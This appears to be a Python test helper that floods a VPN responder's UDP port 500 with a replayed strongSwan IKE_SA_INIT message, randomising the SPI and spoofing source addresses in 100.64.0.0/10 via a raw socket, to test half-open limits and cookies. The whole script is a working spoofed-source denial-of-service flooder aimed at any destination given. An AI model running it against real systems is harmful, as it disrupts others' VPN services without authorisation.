#!/usr/bin/python3
"""A flood of IKE_SA_INIT requests from spoofed sources, for testing the responder's half-open
limits and cookies: a real strongSwan IKE_SA_INIT (a valid ECP-384 KE value in it) sent again and
again with a fresh initiator SPI, from random addresses in 100.64.0.0/10 that will never answer.

usage: ike_flood.py TEMPLATE DESTINATION COUNT SECONDS
Sends COUNT datagrams to DESTINATION:500 spread over about SECONDS; prints "flooding" after the
first batch and, at the end, how many it sent.
"""

import os
import random
import socket
import sys
import time

from scapy.all import IP, UDP

template, destination, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
message = bytearray(open(template, "rb").read())
# IPPROTO_RAW: the kernel takes our IP header as it is, spoofed source included, and routes it.
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
batch = 100
pause = seconds / max(1, count // batch)
sent = 0
start = time.monotonic()
while sent < count:
    for _ in range(min(batch, count - sent)):
        message[0:8] = os.urandom(8)
        source = "100.%d.%d.%d" % (random.randint(64, 127), random.randint(0, 255), random.randint(1, 254))
        datagram = IP(src=source, dst=destination) / UDP(sport=500, dport=500) / bytes(message)
        sender.sendto(bytes(datagram), (destination, 0))
        sent += 1
    if sent <= batch:
        # For the caller to wait on: the responder is under load from here on.
        print("flooding", flush=True)
    # Spread the batches over the time asked for.
    ahead = start + pause * (sent // batch) - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
print(f"sent {sent} spoofed IKE_SA_INIT in {time.monotonic() - start:.1f} s")
